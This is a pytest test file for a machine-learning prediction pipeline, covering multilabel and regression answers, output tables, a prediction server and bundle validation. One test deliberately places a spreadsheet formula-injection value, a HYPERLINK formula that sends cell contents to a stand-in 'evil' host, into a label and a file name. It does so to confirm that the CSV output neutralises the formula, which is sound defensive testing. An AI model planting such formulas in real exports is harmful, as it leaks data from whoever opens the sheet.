"""A bundle of several labels, or of numbers, answers by every door as its head does."""

import importlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from starlette.testclient import TestClient

import headstart
from flows import growing
from pipeline.core.errors import DataError, RefusedError
from pipeline.kinds.vector.parse import npy
from pipeline.serving import predict, tables
from pipeline.serving.classifier import Classifier
from pipeline.serving.server import Limits, application
from tests.conftest import Project
from tests.helpers.bundles import LABELS, NUMBERS, TEXTS, THRESHOLDS, VECTORS, head_of

ByHand = Callable[[str], Path]
SEVERAL = np.array([1, 0.45, 0, 0], np.float32)  # brick, and moss above its low threshold
NONE = np.array([0, 0, 0.6, 0], np.float32)  # wood below its high threshold


def sigmoid(scores: np.ndarray) -> np.ndarray:
    return 1 / (1 + np.exp(-scores))


def test_several_labels_are_those_that_reach_their_threshold(by_hand: ByHand) -> None:
    classifier = Classifier(by_hand("multilabel"), explains=True)
    answer = classifier.answer(npy(SEVERAL), neighbours=6)
    wanted = sigmoid((8 * SEVERAL[:3] - 4) / 2)
    np.testing.assert_allclose(answer.probabilities, wanted, rtol=1e-5)
    assert (answer.labels, answer.best, answer.numbers) == (("brick", "moss"), 0, None)
    assert classifier.answer(npy(NONE)).labels == ()
    assert classifier.answer(npy(NONE)).best == 2
    # The texts of the manifest, of which one is empty.
    assert sorted(one.label for one in answer.neighbours) == sorted(TEXTS["multilabel"])
    assert answer.neighbours[0].label in ("brick", "brick|moss")


def test_numbers_come_in_their_own_units(by_hand: ByHand) -> None:
    classifier = Classifier(by_hand("regression"), explains=True)
    answer = classifier.answer(npy(SEVERAL), neighbours=1)
    head = head_of("regression")
    np.testing.assert_allclose(answer.numbers, head.logits(SEVERAL[None])[0], rtol=1e-6)
    assert (answer.probabilities.size, answer.labels) == (0, ())
    assert answer.neighbours[0].label.startswith("age=")


@pytest.mark.parametrize("task", ["classification", "regression"])
def test_numbers_that_are_too_large_are_refused(by_hand: ByHand, task: str) -> None:
    huge = np.full(4, 3e38, np.float32)
    with pytest.raises(RefusedError, match="too large for a prediction"):
        Classifier(by_hand(task)).answer(npy(huge))


@pytest.fixture
def asked(tmp_path: Path) -> list[str]:
    np.save(tmp_path / "a.npy", SEVERAL)
    (tmp_path / "b.json").write_text("[1]")
    np.save(tmp_path / "c.npy", NONE)
    return [str(tmp_path / name) for name in ("a.npy", "b.json", "c.npy")]


def all_tables(
    bundle: Path, asked: list[str], folder: Path
) -> tuple[list[dict[str, Any]], pd.DataFrame]:
    """The rows that JSON lines and Parquet both have, and the CSV table."""
    files = {kind: folder / f"said.{kind}" for kind in ("csv", "jsonl", "parquet")}
    predict.run(bundle, asked, **files)
    lines = [json.loads(line) for line in files["jsonl"].read_text().splitlines()]
    for line, row in zip(lines, pq.read_table(files["parquet"]).to_pylist(), strict=True):
        assert list(line) == list(row)
        for name, value in line.items():
            assert row[name] == (pytest.approx(value) if isinstance(value, float) else value)
    return lines, pd.read_csv(files["csv"])


def test_a_table_for_people_holds_no_formula(
    by_hand: ByHand, asked: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    link = '=HYPERLINK("http:evil"&A1)'
    bundle = shutil.copytree(by_hand("classification"), tmp_path / "bundle")
    about = (bundle / "bundle.json").read_text()
    (bundle / "bundle.json").write_text(about.replace('"brick"', json.dumps(link)))
    monkeypatch.chdir(tmp_path)
    Path("a.npy").rename(f"{link}.npy")
    predict.run(bundle, [f"{link}.npy"], csv=Path("said.csv"), jsonl=Path("said.jsonl"))
    row = pd.read_csv("said.csv").iloc[0]
    assert (row["path"], row["class"]) == (f"'{link}.npy", f"'{link}")
    assert row["likely"].startswith(f"'{link}")
    told = json.loads(Path("said.jsonl").read_text())
    assert (told["path"], told["class"]) == (f"{link}.npy", link)


def test_tables_of_several_labels(by_hand: ByHand, asked: list[str], tmp_path: Path) -> None:
    lines, table = all_tables(by_hand("multilabel"), asked, tmp_path)
    assert [row["labels"] for row in lines] == [["brick", "moss"], None, []]
    shares = ["p(brick)", "p(moss)", "p(wood)"]
    assert list(table) == ["path", "labels", *shares, "distance", "unusual", "error"]
    assert table["labels"].fillna("").tolist() == ["brick|moss", "", ""]
    np.testing.assert_allclose(table["p(moss)"][0], sigmoid((8 * 0.45 - 4) / 2), rtol=1e-5)
    assert table["error"].isna().tolist() == [True, False, True]


def test_tables_of_numbers(by_hand: ByHand, asked: list[str], tmp_path: Path) -> None:
    lines, table = all_tables(by_hand("regression"), asked, tmp_path)
    of_age, of_path = (
        [f"{what}({name})" for what in ("predicted", "low", "high")] for name in NUMBERS
    )
    assert list(table) == ["path", *of_age, *of_path, "distance", "unusual", "error"]
    assert [lines[0][name] for name in of_age] == [74.5, 72, 77]
    # As people read them: not 74.4999999, as a float32 has it.
    assert [row["predicted(age)"] for row in lines] == [74.5, None, 30.0]
    assert "74.5," in (tmp_path / "said.csv").read_text()
    assert lines[0]["path"] == asked[0]
    assert lines[1]["error"] == "it has length 1, but the bundle takes 4"


def test_in_print(by_hand: ByHand, asked: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    predict.run(by_hand("multilabel"), asked, neighbours=1)
    head, several, unlike, near, bad, none, *_ = capsys.readouterr().out.splitlines()
    assert unlike.strip() == "out of distribution: unlike anything in training"
    assert head.split() == ["labels", "path"]
    assert several.startswith("brick 0.88 | moss 0.45  ")
    assert " like brick" in near
    assert bad.startswith("–")
    assert bad.endswith("b.json: it has length 1, but the bundle takes 4")
    assert none.startswith("none (wood 0.60)  ")
    assert {one.index("/") for one in (several, bad, none)} == {head.index("path")}

    predict.run(by_hand("regression"), asked)
    head, first, _, bad, _, promised = capsys.readouterr().out.splitlines()
    assert promised.strip() == "age from 27.5 to 32.5, path from -0.175 to 0.075"
    assert head.split() == ["age", "path", "path"]
    assert first.split()[:2] == ["74.5", "0.25"]
    assert bad.split()[:2] == ["–", "–"]


def client(bundle: Path) -> TestClient:
    app = application(Classifier(bundle, explains=True), Limits())
    return TestClient(app, base_url="http://localhost")


def ask(server: TestClient, vector: np.ndarray) -> httpx.Response:
    kind = {"content-type": "application/x-npy"}
    reply: httpx.Response = server.post("/predict?neighbours=2", content=npy(vector), headers=kind)
    return reply


def test_the_server_replies_with_several_labels(by_hand: ByHand) -> None:
    with client(by_hand("multilabel")) as server:
        reply = ask(server, SEVERAL).json()
        told = ["labels", "probabilities", "thresholds", "neighbours", "heat_map"]
        assert set(reply) == {*told, "distance", "unusual"}
        assert reply["labels"] == ["brick", "moss"]
        assert list(reply["probabilities"]) == LABELS
        assert reply["thresholds"] == dict(zip(LABELS, THRESHOLDS, strict=True))
        assert ask(server, NONE).json()["labels"] == []
        assert server.get("/about").json()["task"] == "multilabel"


def test_the_server_replies_with_numbers(by_hand: ByHand) -> None:
    with client(by_hand("regression")) as server:
        reply = ask(server, SEVERAL).json()
        assert reply["numbers"] == {"age": 74.5, "path": 0.25}
        assert len(reply["neighbours"]) == 2
        assert ask(server, np.full(4, 3e38, np.float32)).status_code == 422
        about = server.get("/about").json()
        assert (about["task"], about["classes"]) == ("regression", NUMBERS)


@pytest.mark.parametrize(
    ("task", "name"),
    [("classification", "Reply"), ("multilabel", "LabelsReply"), ("regression", "NumbersReply")],
)
def test_the_description_of_the_server_names_the_reply(
    by_hand: ByHand, task: str, name: str
) -> None:
    with client(by_hand(task)) as server:
        told = server.get("/openapi.json").json()
        answered = told["paths"]["/predict"]["post"]["responses"]["200"]["content"]
        assert answered["application/json"]["schema"] == {"$ref": f"#/components/schemas/{name}"}
        form = told["components"]["schemas"][name]
        assert set(ask(server, SEVERAL).json()) == set(form["properties"])


@pytest.mark.parametrize("task", ["multilabel", "regression"])
def test_a_folder_that_grows_is_answered_once(
    by_hand: ByHand, asked: list[str], tmp_path: Path, task: str
) -> None:
    inbox, answers = tmp_path / "inbox", tmp_path / "answers.jsonl"
    inbox.mkdir()
    shutil.copy(asked[0], inbox / "a.npy")
    shutil.copy(asked[0], inbox / "again.npy")

    def look() -> tuple[int, int]:
        with answers.open("a+", encoding="utf-8") as lines:
            return growing.answer_new(by_hand(task), inbox, lines)

    assert [look(), look()] == [(1, 1), (0, 0)]
    first, copy = (json.loads(line) for line in answers.read_text().splitlines())
    names = [*tables.columns_of(Classifier(by_hand(task))), "error"]
    assert [first[name] for name in names] == [copy[name] for name in names]
    assert first["error"] is None
    # Lines of an older Headstart with fewer keys are no answers of this one.
    less = {name: value for name, value in first.items() if name not in names[:1]}
    answers.write_text(json.dumps(less) + "\n")
    assert look() == (1, 1)


@pytest.mark.slow
def test_a_bundle_answers_with_the_classes_of_a_balanced_head(project: Project) -> None:
    """A bundle of vectors; also one that holds no training example, whose schema is a later one."""
    random = np.random.default_rng(0)
    rare = np.arange(600) % 8 == 0
    vectors = (random.standard_normal((600, 4)) + 1.5 * rare[:, None]).astype(np.float32)
    table = {
        "vector": pa.array(vectors.tolist(), pa.list_(pa.float32())),
        "label": rare.astype(str),
    }
    pq.write_table(pa.table(table), "data/raw/t.parquet")
    document = yaml.safe_load(Path("params.yaml").read_text())
    document["ingest"] = {"kind": "vector", "source": "parquet", "path": "data/raw/t.parquet"}
    document |= {"augment": {"views": 0}, "evaluate": {"bootstrap": 10}}
    document["train"] = {"class_weights": "balanced", "coverage": 0.9, "power": 1.0}
    document["extract"]["backbone"] = "identity"
    Path("params.yaml").write_text(yaml.safe_dump(document))
    for stage in ("ingest", "augment", "extract", "train", "evaluate", "bundle"):
        getattr(importlib.import_module(f"pipeline.{stage}"), stage)()
    evaluated = pd.read_csv("reports/predictions.csv", dtype=str)
    assert (evaluated["probability"].astype(float) < 0.5).sum() > 5  # another is more probable
    for schema, held in ((4, "features"), (5, "none")):
        document["bundle"] = {"training_examples": held}
        Path("params.yaml").write_text(yaml.safe_dump(document))
        importlib.import_module("pipeline.bundle").bundle()
        assert Classifier(Path("bundle")).bundle.schema == schema
        predict.run(Path("bundle"), evaluated["path"], csv=Path("said.csv"))
        said = pd.read_csv("said.csv", dtype=str)
        assert said["class"].tolist() == evaluated["predicted"].tolist()
        np.testing.assert_allclose(
            said["probability"].astype(float), evaluated["probability"].astype(float), rtol=1e-4
        )
        assert all(one in likely for one, likely in zip(said["class"], said["likely"], strict=True))


@pytest.mark.parametrize("task", ["multilabel", "regression"])
def test_what_evaluate_said_of_test_examples_is_what_a_bundle_says(
    project: Project, task: str
) -> None:
    """From a table to the answers, through every stage that they rest on."""
    random = np.random.default_rng(0)
    vectors = random.standard_normal((80, 6)).astype(np.float32)
    scores = vectors[:, :2] + 0.3 * random.standard_normal((80, 2))
    wanted = np.where(scores > 0.5, 1.0, 0.0) if task == "multilabel" else 7 * scores + 20
    wanted[::9, 1] = np.nan if task == "multilabel" else 20  # unknown
    table = {name: column for name, column in zip(["moss", "wood"], wanted.T, strict=True)}
    pq.write_table(
        pa.table({"vector": pa.array(vectors.tolist(), pa.list_(pa.float32())), **table}),
        "data/raw/t.parquet",
    )
    document = yaml.safe_load(Path("params.yaml").read_text())
    document["ingest"] = {"kind": "vector", "source": "parquet", "path": "data/raw/t.parquet",
                          "task": task, "targets": ["moss", "wood"]}  # fmt: skip
    document |= {"augment": {"views": 0}, "evaluate": {"bootstrap": 10}}
    document["train"] = {"optimizer": "ridge" if task == "regression" else "lbfgs"}
    document["extract"]["backbone"] = "identity"
    Path("params.yaml").write_text(yaml.safe_dump(document))
    for stage in ("ingest", "augment", "extract", "train", "evaluate", "bundle"):
        getattr(importlib.import_module(f"pipeline.{stage}"), stage)()

    evaluated = pd.read_csv("reports/predictions.csv", keep_default_na=False)
    predict.run(Path("bundle"), evaluated["path"], csv=Path("said.csv"))
    said = pd.read_csv("said.csv", keep_default_na=False)
    if task == "multilabel":
        assert said["labels"].tolist() == evaluated["predicted"].tolist()
    what = "p" if task == "multilabel" else "predicted"
    for name in (f"{what}(moss)", f"{what}(wood)"):
        np.testing.assert_allclose(said[name], evaluated[name].astype(float), rtol=1e-4, atol=1e-6)

    # Models of one task are not put beside data of another.
    about = json.loads(Path("models/head.json").read_text())
    about["task"] = "regression" if task == "multilabel" else "multilabel"
    Path("models/head.json").write_text(json.dumps(about | {"thresholds": [0.5, 0.5]}))
    with pytest.raises(DataError, match=rf"trained for {about['task']}, but .* is for {task}: run"):
        importlib.import_module("pipeline.bundle").bundle()


def changed(bundle: Path, folder: Path, **changes: object) -> Path:
    """A copy of a bundle in which `bundle.json` has other values; None takes one out."""
    copy = folder / "changed"
    shutil.copytree(bundle, copy)
    about = json.loads((copy / "bundle.json").read_text()) | changes
    kept = {name: value for name, value in about.items() if value is not None}
    (copy / "bundle.json").write_text(json.dumps(kept))
    return copy


def test_classes_that_training_weighed_are_held_against_their_thresholds(
    by_hand: ByHand, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Brick and moss are equally probable, and moss is the rarer one."""
    plain, thresholds = by_hand("classification"), [0.6, 0.3, 0.1]
    bundle = changed(plain, tmp_path, schema=4, thresholds=thresholds)
    shares = Classifier(plain).answer(npy(VECTORS[3])).probabilities
    answer = Classifier(bundle).answer(npy(VECTORS[3]))
    np.testing.assert_array_equal(answer.probabilities, shares)
    assert (answer.best, answer.likely[0]) == (1, "moss")
    reply = ask(client(bundle), VECTORS[3]).json()
    assert (reply["best"], reply["probability"]) == ("moss", pytest.approx(shares[1]))
    assert reply["thresholds"] == dict(zip(LABELS, thresholds, strict=True))
    assert ask(client(plain), VECTORS[3]).json()["thresholds"] is None
    prediction = headstart.load(bundle).predict([npy(VECTORS[3])])[0]
    assert (prediction.label, prediction.probability) == ("moss", pytest.approx(shares[1]))
    np.save(tmp_path / "one.npy", VECTORS[3])
    predict.run(bundle, [str(tmp_path / "one.npy")], csv=tmp_path / "said.csv")
    rows = pd.read_csv(tmp_path / "said.csv")
    assert rows.columns.tolist()[1:4] == ["class", "probability", "most_probable"]
    assert rows.loc[0, ["class", "most_probable"]].tolist() == ["moss", "brick"]
    capsys.readouterr()
    predict.run(bundle, [str(tmp_path / "one.npy")])
    assert "brick is more probable" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("task", "changes", "said"),
    [
        ("classification", {"thresholds": [0.5, 0.3, 0.2]}, "schema is 1, .* has schema 4"),
        ("classification", {"schema": 4}, "schema is 4, .* has schema 1"),
        ("classification", {"schema": 4, "thresholds": [1, 0.3, 0.2]}, "a threshold is 1"),
        ("multilabel", {"task": "both"}, "is damaged: task is 'both'"),
        ("multilabel", {"task": ["multilabel"]}, "is damaged: task is"),
        ("multilabel", {"task": None}, "schema is 3, .* has schema 4"),
        ("multilabel", {"schema": 1}, "schema is 1, .* has schema 3"),
        ("multilabel", {"task": "regression"}, "does not return 3 numbers"),
        ("multilabel", {"thresholds": None}, "is damaged: 'thresholds' is missing"),
        ("multilabel", {"thresholds": [0.5, 0.5]}, "thresholds are not 3 numbers"),
        ("multilabel", {"thresholds": {"brick": 1}}, "thresholds are not 3 numbers"),
        ("multilabel", {"thresholds": [0.5, 0.5, float("nan")]}, "a threshold is nan"),
        ("multilabel", {"thresholds": [0.5, 0.5, "1"]}, "a threshold is '1'"),
        ("multilabel", {"classes": ["brick", "moss"], "thresholds": [0.5] * 2}, "2 probabilities"),
        ("regression", {"classes": ["age"], "sets": None}, "does not return 1 numbers"),
        ("regression", {"classes": ["age"]}, "sets: reach is not a list of 1 numbers"),
        (
            "regression",
            {"task": "multilabel", "thresholds": [0.5, 0.5], "sets": None},
            "not return 2 probabilities",
        ),
    ],
)
def test_what_does_not_fit_together_is_one_line(
    by_hand: ByHand, tmp_path: Path, task: str, changes: dict[str, Any], said: str
) -> None:
    with pytest.raises(DataError, match=said) as raised:
        Classifier(changed(by_hand(task), tmp_path, **changes))
    assert "\n" not in str(raised.value)


def test_a_bundle_of_before_there_were_tasks_tells_classes_apart(
    by_hand: ByHand, tmp_path: Path
) -> None:
    later = dict.fromkeys(("training_examples", "usual", "sets", "files", "code"))
    bundle = changed(by_hand("classification"), tmp_path, **later)
    about = json.loads((bundle / "bundle.json").read_text())
    assert about["schema"] == 1
    assert not {"task", "thresholds"} & set(about)
    answer = Classifier(bundle, explains=True).answer(npy(VECTORS[1]), neighbours=1)
    assert (answer.best, answer.labels, answer.numbers) == (1, ("moss",), None)
    assert sum(answer.probabilities) == pytest.approx(1)
